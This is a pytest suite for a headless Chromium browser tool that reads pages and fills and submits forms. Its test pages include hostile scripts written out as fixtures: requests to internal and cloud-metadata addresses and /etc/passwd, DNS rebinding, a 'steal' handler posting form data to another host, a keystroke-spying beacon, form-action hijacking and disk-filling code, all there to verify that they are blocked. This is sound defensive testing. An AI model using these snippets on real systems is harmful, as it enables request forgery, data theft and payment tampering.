"""The browser in a real Chromium: what a page shows, what it may ask, what forms send, and what is left when it ends."""

import asyncio
import os
import signal
import sys
from asyncio.subprocess import DEVNULL, PIPE
from contextlib import suppress
from pathlib import Path

import pytest

from app.errors import ChangedElsewhere, FetchFailed, NotFound, OutcomeUnknown, OutsideRefused, ToolProblem
from app.integrations.browser.chromium import Chromium, found_chromium
from app.integrations.browser.port import MOST_TEXT, Filled, Prepared
from tests.integrations.browser.conftest import ANA, BEN, Elsewhere, Request, html, moved, pages, until
from tests.integrations.fetching.conftest import Names, answer

pytestmark = pytest.mark.slow
SHOP = "http://shop.example/"
INSIDE = "10.1.2.3"
LONG = "A paragraph of a length that a page's main part has, so that it is not taken for an empty frame. "
READING = f"""<title>Our shop</title><nav><a href="/about">About us</a></nav>
<main><h1>Welcome</h1><p>{LONG}</p><h2>News <em>today</em></h2><p>First.<br>Second.</p><h4>Small</h4>
<p style="display:none">unseen one</p><p hidden>unseen two</p><p style="visibility:hidden">unseen three</p>
<p style="opacity:0">unseen four</p><p style="font-size:1px">unseen five</p><p style="color:transparent">unseen six</p>
<p style="position:absolute;left:-9999px">unseen seven</p><noscript>unseen eight</noscript><script>"unseen nine"</script>
<div style="width:1px;height:1px;overflow:hidden">unseen ten</div>
<ul><li>one<li>two</ul><table><tr><th>A<th>B<tr><td>1<td>2</table>
<a href="/next">Next page</a><a href="javascript:void 0">Nowhere</a>
<button type="button" onclick="document.querySelector('#m').textContent='More of it'">More</button><p id="m"></p></main>
<footer>Imprint</footer>"""
FORM = """<title>Contact</title><h1>Write to us</h1><form action="/send" method="post">
<label>Your name <input name="action" required></label><label>E-mail: <input type="email" name="submit" required></label>
<label>Colour <select name="colour"><option>Red<option>Blue</select></label>
<fieldset><legend>Size</legend><label><input type="radio" name="size" value="s">Small</label>
<label><input type="radio" name="size" value="l">Large</label></fieldset>
<label><input type="checkbox" name="news" value="1"> Send me news</label>
<textarea name="note" placeholder="Message"></textarea><input type="hidden" name="token" value="t-1"><button>Send it</button></form>"""
GIVEN = {
    "name": "Ana Ñ",
    "email": "ana@x.org",
    "colour": "blue",
    "size": "large",
    "news": "yes",
    "message": "Hi\nthere",
}


async def test_a_page_is_its_main_part_with_headings_and_what_can_be_followed(elsewhere: Elsewhere) -> None:
    site = await elsewhere.serve(pages(index=READING, next="<title>Next</title><h1>Here</h1>"), "shop.example")
    browser = elsewhere.browser()
    page = await browser.open(ANA, SHOP)
    assert (page.url, page.title, page.status, page.is_cut) == (SHOP, "Our shop", 200, False)
    assert page.text.split("\n") == [
        *("# Welcome", LONG.strip(), "## News today", "First.", "Second.", "Small", "- one", "- two"),
        *("A | B", "1 | 2", "Next pageNowhere More"),
    ]
    assert [(one.number, one.kind, one.name, one.url) for one in page.items] == [
        (1, "link", "About us", f"{SHOP}about"),
        (2, "link", "Next page", f"{SHOP}next"),
        (4, "button", "More", ""),
    ]
    assert "More of it" in (await browser.follow(ANA, 4)).text
    assert (await browser.follow(ANA, 2)).text == "# Here"
    assert site.asked == ["GET /", "GET /next"]
    with pytest.raises(NotFound, match="number 9"):
        await browser.follow(ANA, 9)
    with pytest.raises(NotFound, match="No page is open"):
        await browser.follow(BEN, 1)


async def test_a_page_is_bounded_and_the_names_of_its_elements_change_nothing(elsewhere: Elsewhere) -> None:
    clobbered = "".join(
        f'<img name="{name}"><form name="{name}"><input name="{name}"></form>'
        for name in ("body", "forms", "querySelectorAll", "title", "firstChild", "nodeType", "tagName", "parentNode")
    )
    scripted = (
        "<script>Node.prototype.contains = document.createElement = () => { throw 1 }; window.__page = 7</script>"
    )
    deep = "<div>" * 3_000 + "deep"
    site = pages(
        index=f"<title>Long</title>{scripted}<p>{'word ' * 100_000}</p>",
        odd=f"<title>Odd</title>{clobbered}<p>{LONG}</p>{deep}",
        bare=answer(b"", "204 No Content"),
        gone=html("<title>Gone</title>nothing", "404 Not Found"),
    )
    await elsewhere.serve(site, "shop.example")
    browser = elsewhere.browser()
    page = await browser.open(ANA, SHOP)
    assert MOST_TEXT - 5 < len(page.text) <= MOST_TEXT
    assert page.is_cut
    page = await browser.open(ANA, f"{SHOP}odd")
    assert page.title
    assert LONG.strip() in page.text
    assert (await browser.open(ANA, f"{SHOP}gone")).status == 404


async def test_nothing_inside_is_reached_whatever_a_page_tries(elsewhere: Elsewhere) -> None:
    inside = await elsewhere.serve("secret", "router.example", address=INSIDE)
    elsewhere.names.answers["turns.example"] = [("93.184.216.34",), (INSIDE,)]
    here = f"127.0.0.1:{inside.port}"
    tries = f"""<title>Trap</title><p>{LONG}</p><iframe src="http://router.example/frame"></iframe><img src="http://{here}/img">
<iframe src="http://{here}/frame"></iframe><iframe src="/moved"></iframe><iframe src="file:///etc/passwd"></iframe>
<link rel="stylesheet" href="http://router.example/style"><script src="http://[::1]:{inside.port}/script"></script>
<link rel="preconnect" href="http://router.example"><link rel="dns-prefetch" href="http://router.example">
<script>for (const url of ["http://{here}/f", "http://router.example/f", "http://localhost:{inside.port}/f", "http://169.254.169.254/f", "/moved",
"http://turns.example/f"])
  {{ fetch(url, {{mode: "no-cors"}}).catch(() => 0); fetch(url, {{method: "POST", body: "x", mode: "no-cors"}}).catch(() => 0);
     navigator.sendBeacon(url, "x"); }}
new WebSocket("ws://router.example/ws"); new WebSocket("ws://{here}/ws"); new EventSource("http://router.example/events");
new Worker(URL.createObjectURL(new Blob(["fetch('http://{here}/worker')"])));
document.title = [typeof RTCPeerConnection, typeof WebTransport].join();
navigator.serviceWorker?.register("/worker").catch(() => 0);</script>"""
    serve = pages(
        index=tries,
        moved=moved("http://router.example/moved"),
        here=moved(f"http://{here}/"),
        named=moved("http://router.example/"),
        file=moved("file:///etc/passwd"),
        meta=f"<meta http-equiv=refresh content='0;url=http://{here}/'><p>{LONG}</p>",
        worker=answer(b"self.onfetch = 1", content_type="text/javascript"),
    )
    site = await elsewhere.serve(serve, "shop.example")
    browser = elsewhere.browser()
    page = await browser.open(ANA, SHOP)
    assert page.title == "undefined,undefined"
    assert "GET /worker" not in site.asked
    for path in ("moved", "here", "named"):
        with pytest.raises(OutsideRefused):
            await browser.open(ANA, f"{SHOP}{path}")
    with pytest.raises((OutsideRefused, FetchFailed, ToolProblem)):
        await browser.open(ANA, f"{SHOP}file")
    refused = (
        f"http://{here}/",
        "file:///etc/passwd",
        "data:text/html,x",
        "chrome://version",
        "http://router.example/",
        "http://[::1]/",
    )
    for url in (
        *refused,
        "view-source:http://shop.example/",
        "javascript:1",
        "http://169.254.169.254/",
        "http://0x7f000001/",
    ):
        with pytest.raises(OutsideRefused):
            await browser.open(ANA, url)
    try:
        page = await browser.open(ANA, f"{SHOP}meta")
    except (OutsideRefused, FetchFailed, ToolProblem):
        page = None
    assert page is None or "secret" not in page.text
    assert inside.connections == 0
    assert {address for address, _ in elsewhere.dialled} == {"93.184.216.34"}


async def test_what_its_owner_entered_may_lie_inside(elsewhere: Elsewhere) -> None:
    inside = await elsewhere.serve("<title>Home</title>", address="127.0.0.1")
    browser = elsewhere.browser(allowed=frozenset((("127.0.0.1", 7001),)))
    assert (await browser.open(ANA, "http://127.0.0.1:7001/")).title == "Home"
    with pytest.raises(OutsideRefused):
        await browser.open(ANA, "http://127.0.0.1:7002/")
    assert inside.connections == 1


async def test_a_name_that_changes_its_mind_changes_nothing(elsewhere: Elsewhere) -> None:
    inside = await elsewhere.serve("secret", address=INSIDE)
    await elsewhere.serve(f"<title>Fair</title><p>{LONG}</p>", "turns.example")
    elsewhere.names.answers["turns.example"] = [("93.184.216.34",), (INSIDE,)]
    browser = elsewhere.browser()
    assert (await browser.open(ANA, "http://turns.example/")).title == "Fair"
    with pytest.raises(OutsideRefused):
        await browser.open(ANA, "http://turns.example/again")
    assert inside.connections == 0


async def test_only_domains_that_are_allowed_are_opened(elsewhere: Elsewhere) -> None:
    other = await elsewhere.serve("x", "other.example", address="93.184.216.35")
    await elsewhere.serve(
        f'<title>Fair</title><iframe src="http://other.example/"></iframe><p>{LONG}</p>', "www.shop.example"
    )
    browser = elsewhere.browser(domains=("shop.example",))
    assert (await browser.open(ANA, "http://www.shop.example/")).title == "Fair"
    for url in ("http://other.example/", "http://notshop.example/"):
        with pytest.raises(OutsideRefused, match="BROWSER_ALLOWED_DOMAINS"):
            await browser.open(ANA, url)
    assert other.connections == 0


def _forms(request: Request) -> bytes:
    if request.method == "POST":
        return html("<title>Thanks</title><h1>We have it</h1>")
    return html(FORM)


async def _filled(browser: Chromium, url: str = SHOP) -> Filled:
    return await browser.fill(ANA, GIVEN, url)


async def test_a_form_is_filled_in_shown_and_sent_once(elsewhere: Elsewhere) -> None:
    site = await elsewhere.serve(_forms, "shop.example")
    browser = elsewhere.browser()
    filled = await browser.fill(ANA, {**GIVEN, "shoe": "9", "colour": "green"}, SHOP)
    assert (filled.unknown, filled.unfit, filled.missing) == (("shoe",), ("Colour",), ())
    filled = await browser.fill(ANA, {"name": "Ana"}, SHOP)
    assert filled.missing == ("E-mail",)
    filled = await _filled(browser)
    assert (filled.unknown, filled.unfit, filled.missing, filled.refused) == ((), (), (), ())
    fields = {
        "Your name": "Ana Ñ",
        "E-mail": "ana@x.org",
        "Colour": "Blue",
        "Size": "Large",
        "Send me news": "on",
        "Message": "Hi\nthere",
    }
    assert filled.prepared == Prepared(SHOP, filled.form.mark, "shop.example", fields)
    assert browser.filled(ANA) == filled.prepared
    shot = await browser.rehearse(ANA, filled.prepared)
    assert shot.startswith(b"\x89PNG")
    assert int.from_bytes(shot[16:20]) < 900  # as wide as what is in the form, not as the page
    assert {one.partition(" ")[0] for one in site.asked} == {"GET"}
    await browser.close()  # as after a restart
    page = await browser.submit(ANA, filled.prepared)
    assert (page.title, page.text, page.url) == ("Thanks", "# We have it", f"{SHOP}send")
    [sent] = [one for one in site.requests if one.method == "POST"]
    assert sent.body.decode() == (
        "action=Ana+%C3%91&submit=ana%40x.org&colour=Blue&size=l&news=1&note=Hi%0D%0Athere&token=t-1"
    )
    assert browser.filled(ANA) is None


@pytest.mark.parametrize(
    "after",
    [
        FORM.replace('action="/send"', 'action="http://other.example/send"'),
        FORM.replace("Your name", "Card number"),
        FORM.replace("</form>", "<label>PIN <input name=pin></label></form>"),
        "<p>closed</p>",
    ],
)
async def test_a_form_that_is_another_one_by_now_is_not_sent(elsewhere: Elsewhere, after: str) -> None:
    shown = [FORM]
    site = await elsewhere.serve(lambda _: html(shown[0]), "shop.example", "other.example")
    browser = elsewhere.browser()
    filled = await _filled(browser)
    shown[0] = after
    with pytest.raises(ChangedElsewhere):
        await browser.submit(ANA, filled.prepared)
    assert all(one.method == "GET" for one in site.requests)


async def test_what_a_page_does_with_a_form_stays_with_whom_it_was_to_go_to(elsewhere: Elsewhere) -> None:
    other = await elsewhere.serve("x", "other.example", address="93.184.216.35")
    script = "<script>document.querySelector('form').onsubmit = (event) => {{ event.preventDefault(); {} }}</script>"
    steal = "fetch('http://other.example/', {method: 'POST', body: 'x', mode: 'no-cors'})"
    own = "fetch('/api', {method: 'POST', body: new FormData(event.target)}).then(() => document.body.textContent = 'Saved')"
    site = await elsewhere.serve(
        pages(
            steal=FORM + script.format(steal),
            turn=FORM
            + "<script>document.querySelector('form').onsubmit = (event) => event.target.setAttribute('action', 'http://other.example/')</script>",
            nothing=FORM + script.format(""),
            own=FORM + script.format(own),
            api="ok",
        ),
        "shop.example",
    )
    browser = elsewhere.browser()
    for path, said in (("steal", "other.example"), ("turn", "other.example"), ("nothing", "sent nothing")):
        with pytest.raises(ToolProblem, match=said):
            await browser.submit(ANA, (await _filled(browser, f"{SHOP}{path}")).prepared)
    assert other.connections == 0
    page = await browser.submit(ANA, (await _filled(browser, f"{SHOP}own")).prepared)
    assert page.text == "Saved"
    assert [one for one in site.asked if one.startswith("POST")] == ["POST /api"]


async def test_what_a_page_puts_into_a_form_for_another_host_is_shown_and_nothing_else_is_sent(
    elsewhere: Elsewhere,
) -> None:
    bank = await elsewhere.serve(pages(pay="<title>Paid</title>", tell="x"), "bank.example", address="93.184.216.35")
    form = """<form action="http://bank.example/pay" method=post onsubmit="this.elements.to.value = 'script'; this.action = '/tell'">
<label>Name <input name=n></label><label>Amount <input name=amount value=9 readonly></label><input type=hidden name=amount value=9999>
<input type=hidden name=to value=eve><input name=css style="display:none" value=unseen><button name=act value=pay>Go</button></form>"""
    shown = [form]
    await elsewhere.serve(lambda _: html(shown[0]), "shop.example")
    browser = elsewhere.browser()
    filled = await browser.fill(ANA, {"name": "Ana"}, SHOP)
    hidden = {"amount (hidden)": "9999", "to (hidden)": "eve", "css (hidden)": "unseen", "act (hidden)": "pay"}
    assert dict(filled.prepared.fields) == {"Name": "Ana", "Amount": "9", **hidden}
    for other in (form.replace("eve", "mallory"), form.replace("/pay", "/tell"), form.replace("value=9 ", "value=8 ")):
        shown[0] = other
        with pytest.raises(ChangedElsewhere):
            await browser.submit(ANA, filled.prepared)
    shown[0] = form
    assert (await browser.submit(ANA, filled.prepared)).title == "Paid"
    [sent] = bank.requests
    assert (sent.path, sent.body) == ("/pay", b"n=Ana&amount=9&amount=9999&to=eve&css=unseen&act=pay")


async def test_what_is_typed_reaches_nobody_before_it_is_sent(elsewhere: Elsewhere) -> None:
    spies = """<img id=i><script>
        const told = () => Array.from(document.querySelectorAll('input')).map((one) => one.value).join('-');
        const spy = () => { const at = '/spy?' + encodeURIComponent(told());
            fetch(at); new Image().src = at; navigator.sendBeacon(at); document.getElementById('i').src = at + '2';
            try { new WebSocket('ws://shop.example' + at) } catch (error) {} };
        document.addEventListener('input', spy); setInterval(spy, 50);
        addEventListener('pagehide', spy); addEventListener('online', spy); addEventListener('offline', spy);
    </script>"""
    site = await elsewhere.serve(pages(form=FORM + spies, next="<title>Next</title><p>Next</p>"), "shop.example")
    browser = elsewhere.browser()
    filled = await _filled(browser, f"{SHOP}form")
    await browser.rehearse(ANA, filled.prepared)
    assert (await browser.open(ANA, f"{SHOP}next")).title == "Next"
    assert any("/spy?" in one for one in site.asked)  # it did ask, with nothing typed yet
    assert not [one for one in site.asked if "Ana" in one or "ana%40" in one]


async def test_a_browser_that_was_filled_in_is_gone_before_the_next_page_whoever_asks(elsewhere: Elsewhere) -> None:
    await elsewhere.serve(pages(index=FORM, next="<title>Next</title><p>Next</p>"), "shop.example")
    browser = elsewhere.browser()
    await _filled(browser)
    lock = elsewhere.folder / ANA / "profile" / "SingletonLock"
    os.killpg(int(str(lock.readlink()).rpartition("-")[2]), signal.SIGSTOP)  # it doesn't notice that its child is gone
    assert (await browser.open(BEN, f"{SHOP}next")).title == "Next"
    assert not elsewhere.processes(f"/{ANA}/profile")


async def test_a_form_that_opens_another_page_or_has_a_button_with_an_address_of_its_own(elsewhere: Elsewhere) -> None:
    beside = FORM.replace("<form ", "<form target=_blank ")
    button = FORM.replace("<button>", '<button formaction="http://other.example/own" formtarget="_blank">')
    thanks = "<title>Thanks</title>"
    await elsewhere.serve(pages(index=beside, button=button, send=thanks, own=thanks), "shop.example", "other.example")
    browser = elsewhere.browser()
    assert (await browser.submit(ANA, (await _filled(browser)).prepared)).title == "Thanks"
    filled = await _filled(browser, f"{SHOP}button")
    assert filled.prepared.sends_to == "other.example"
    assert (await browser.submit(ANA, filled.prepared)).url == "http://other.example/own"


async def test_a_page_that_opens_others_or_is_very_large_is_read_all_the_same(elsewhere: Elsewhere) -> None:
    opens = f"<title>Opens</title><p>{LONG}</p><script>alert(1); for (let i = 0; i < 9; i++) open('/other'); onbeforeunload = () => 'stay'</script>"
    large = f"<title>Large</title>{FORM}{''.join(f'<p>{LONG}<a href=/{at}>link</a></p>' for at in range(20_000))}"
    await elsewhere.serve(pages(index=FORM + opens, large=large, other="x"), "shop.example")
    browser = elsewhere.browser()
    assert (await browser.open(ANA, SHOP)).title == "Contact"
    page = await browser.open(ANA, f"{SHOP}large")
    assert (page.title, len(page.items), page.is_cut) == ("Large", 150, True)
    small = (await _filled(browser)).prepared
    filled = await _filled(browser, f"{SHOP}large")
    assert (filled.missing, filled.unknown, dict(filled.prepared.fields)) == ((), (), dict(small.fields))


async def test_a_form_whose_fate_nobody_knows_is_told_so(elsewhere: Elsewhere) -> None:
    site = await elsewhere.serve(lambda request: None if request.method == "POST" else html(FORM), "shop.example")
    browser = elsewhere.browser()
    filled = await _filled(browser)
    with pytest.raises(OutcomeUnknown, match=r"shop\.example"):
        await browser.submit(ANA, filled.prepared)
    assert "POST /send" in site.asked


async def test_reading_sends_no_form(elsewhere: Elsewhere) -> None:
    sends = "<form method=post action=/buy><input name=a value=1><button>Buy</button></form>"
    site = await elsewhere.serve(
        pages(
            index=f"<p>{LONG}</p>{sends}<script>document.forms[0].submit()</script>",
            frame=f"<p>{LONG}</p>{sends}<iframe name=f></iframe><script>document.forms[0].target = 'f'; document.forms[0].submit()</script>",
            button=f"<p>{LONG}</p><button onclick=\"fetch('/buy', {{method: 'POST'}}); document.forms[0].submit()\">Look</button>{sends}",
            buy="bought",
        ),
        "shop.example",
    )
    browser = elsewhere.browser()
    await browser.open(ANA, SHOP)
    await browser.open(ANA, f"{SHOP}frame")
    page = await browser.open(ANA, f"{SHOP}button")
    assert [one.name for one in page.items] == ["Look"]  # what sends a form is none to follow
    await browser.follow(ANA, page.items[0].number)
    assert {one.partition(" ")[0] for one in site.asked} == {"GET"}


async def test_passwords_and_files_are_left_to_people(elsewhere: Elsewhere) -> None:
    body = "<form><label>Password <input type=password></label><label>Photo <input type=file></label><label>Name <input></label><button>Go</button></form>"
    await elsewhere.serve(body, "shop.example")
    filled = await elsewhere.browser().fill(ANA, {"password": "x", "photo": "/etc/passwd", "name": "Ana"}, SHOP)
    assert (filled.refused, dict(filled.prepared.fields)) == (("Password", "Photo"), {"Name": "Ana"})


async def test_pictures_are_loaded_for_a_shot_alone(elsewhere: Elsewhere) -> None:
    picture = answer(b"<svg xmlns='http://www.w3.org/2000/svg'/>", content_type="image/svg+xml")
    site = await elsewhere.serve(pages(index=f"<p>{LONG}</p><img src=/p.svg>", p_svg=picture), "shop.example")
    browser = elsewhere.browser()
    await browser.open(ANA, SHOP)
    assert "GET /p.svg" not in site.asked
    assert (await browser.shot(ANA)).startswith(b"\x89PNG")
    assert "GET /p.svg" in site.asked


async def test_a_file_comes_as_its_bytes_and_one_that_is_too_large_not_at_all(elsewhere: Elsewhere) -> None:
    kind = {"content_type": "application/octet-stream", "content_disposition": 'attachment; filename="../a b.bin"'}
    site = pages(file=answer(b"\0\1" * 500, **kind), large=answer(b"x" * 21_000_000, **kind))
    await elsewhere.serve(site, "shop.example")
    browser = elsewhere.browser()
    page = await browser.open(ANA, f"{SHOP}file")
    assert page.download is not None
    assert (page.download.data, "/" in page.download.name) == (b"\0\1" * 500, False)
    with pytest.raises(FetchFailed, match="larger"):
        await browser.open(ANA, f"{SHOP}large")
    assert list((elsewhere.folder / ANA / "downloads").iterdir()) == []


async def test_a_page_that_fills_the_disk_is_ended_and_what_it_kept_thrown_away(elsewhere: Elsewhere) -> None:
    fills = """<script>const more = new Blob([new Uint8Array(5e6)]);
        setInterval(() => { const link = document.createElement('a'); link.download = 'x'; link.href = URL.createObjectURL(more); link.click() }, 50);
        const base = indexedDB.open('x', 1); base.onupgradeneeded = () => base.result.createObjectStore('s', {autoIncrement: true});
        base.onsuccess = () => setInterval(() => base.result.transaction('s', 'readwrite').objectStore('s').add(more), 50)</script>"""
    fair = f"<title>Fair</title><p>{LONG}</p>"
    await elsewhere.serve(pages(index=f"<p>{LONG}</p>{fills}", fair=fair), "shop.example")
    browser = elsewhere.browser(room=40_000_000)
    with suppress(ToolProblem):  # where it is fast, before it was read
        await browser.open(ANA, SHOP)
    await until(lambda: not elsewhere.processes("--type=renderer"))  # nobody asked anything
    assert (await browser.open(ANA, f"{SHOP}fair")).title == "Fair"
    assert sum(one.stat().st_size for one in elsewhere.folder.rglob("*") if one.is_file()) < 40_000_000


async def test_each_user_has_a_profile_of_their_own(elsewhere: Elsewhere) -> None:
    site = await elsewhere.serve(lambda _: html(f"<p>{LONG}</p>", set_cookie="who=ana; Max-Age=9999"), "shop.example")
    browser = elsewhere.browser()
    await browser.open(ANA, SHOP)
    await browser.open(BEN, SHOP)
    await browser.open(ANA, SHOP)
    cookies = [one.headers.get("cookie", "") for one in site.requests if one.path == "/"]
    assert cookies == ["", "", "who=ana"]
    assert {oct(place.stat().st_mode & 0o777) for place in (elsewhere.folder, elsewhere.folder / ANA)} == {"0o700"}


async def test_a_browser_that_hangs_is_ended_and_the_next_page_comes(elsewhere: Elsewhere) -> None:
    await elsewhere.serve(
        pages(index=f"<title>Fair</title><p>{LONG}</p>", hang="<script>for (;;) {}</script>"), "shop.example"
    )
    browser = elsewhere.browser(seconds=9.0)
    await browser.open(ANA, SHOP)
    with pytest.raises(ToolProblem, match="hung or ended"):
        await browser.open(ANA, f"{SHOP}hang")
    await until(lambda: not elsewhere.processes())
    assert (await browser.open(ANA, SHOP)).title == "Fair"


async def test_a_browser_or_a_child_that_is_killed_starts_anew_and_leaves_nothing(elsewhere: Elsewhere) -> None:
    await elsewhere.serve(f"<title>Fair</title><p>{LONG}</p>", "shop.example")
    browser = elsewhere.browser()
    await browser.open(ANA, SHOP)
    lock = elsewhere.folder / ANA / "profile" / "SingletonLock"
    os.kill(int(str(lock.readlink()).rpartition("-")[2]), signal.SIGKILL)
    assert await _opens_at_last(browser) == "Fair"
    os.kill(_parent(_parent(int(str(lock.readlink()).rpartition("-")[2]))), signal.SIGKILL)
    assert await _opens_at_last(browser) == "Fair"
    await browser.close()
    await until(lambda: not elsewhere.processes())


async def _opens_at_last(browser: Chromium) -> str:
    """The title, at the second try at the latest: the first may find that the browser is gone."""
    try:
        return (await browser.open(ANA, SHOP)).title
    except ToolProblem:
        return (await browser.open(ANA, SHOP)).title


def _parent(number: int) -> int:
    return int(Path(f"/proc/{number}/stat").read_text().rpartition(")")[2].split()[1])


async def test_nothing_runs_before_the_first_page_nor_when_nobody_asked_for_a_while(elsewhere: Elsewhere) -> None:
    await elsewhere.serve(f"<title>Fair</title><p>{LONG}</p>", "shop.example")
    browser = elsewhere.browser(idle_seconds=0.5)
    assert elsewhere.processes() == []
    await browser.open(ANA, SHOP)
    assert elsewhere.processes()
    await until(lambda: not elsewhere.processes())
    assert (await browser.open(ANA, SHOP)).title == "Fair"


async def test_one_page_at_a_time(elsewhere: Elsewhere) -> None:
    await elsewhere.serve(lambda request: html(f"<title>{request.path}</title><p>{LONG}</p>"), "shop.example")
    browser = elsewhere.browser()
    found = await asyncio.gather(*(browser.open(who, f"{SHOP}{who}") for who in (ANA, BEN, ANA)))
    assert [one.title for one in found] == ["/ana", "/ben", "/ana"]


async def test_what_is_missing_is_said_with_what_to_do(tmp_path: Path) -> None:
    with pytest.raises(ToolProblem, match="BROWSER_PATH"):
        await Chromium(tmp_path, Names(), path="/nowhere/chromium").open(ANA, SHOP)
    program = tmp_path / "broken"
    program.write_text("#!/bin/sh\nexit 3\n")
    program.chmod(0o755)
    broken = Chromium(tmp_path / "browser", Names(), path=str(program))
    with pytest.raises(ToolProblem, match="doesn't start"):
        await broken.open(ANA, SHOP)
    await broken.close()


async def test_one_that_runs_already_is_joined_and_left_running(elsewhere: Elsewhere, tmp_path: Path) -> None:
    await elsewhere.serve(_forms, "shop.example")
    profile = tmp_path / "running"
    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--remote-debugging-port=0", f"--user-data-dir={profile}"]
    running = await asyncio.create_subprocess_exec(
        found_chromium(), *flags, "about:blank", stdout=DEVNULL, stderr=DEVNULL, start_new_session=True
    )
    try:
        await until(lambda: (profile / "DevToolsActivePort").exists())
        port = (profile / "DevToolsActivePort").read_text().split()[0]
        browser = elsewhere.browser(cdp=f"http://127.0.0.1:{port}")
        page = await browser.submit(ANA, (await _filled(browser)).prepared)
        assert page.title == "Thanks"
        with pytest.raises(OutsideRefused):
            await browser.open(ANA, f"http://127.0.0.1:{port}/json")
        await browser.close()
        assert running.returncode is None
        with pytest.raises(ToolProblem, match="doesn't answer"):
            await elsewhere.browser(cdp="http://127.0.0.1:9").open(ANA, SHOP)
    finally:
        os.killpg(running.pid, signal.SIGKILL)
        await running.wait()


async def test_the_parent_never_imports_what_drives_the_browser() -> None:
    asked = "import sys, app.integrations.browser.chromium; print('playwright' in sys.modules)"
    done = await asyncio.create_subprocess_exec(sys.executable, "-c", asked, stdout=PIPE)
    said, _ = await done.communicate()
    assert said == b"False\n"
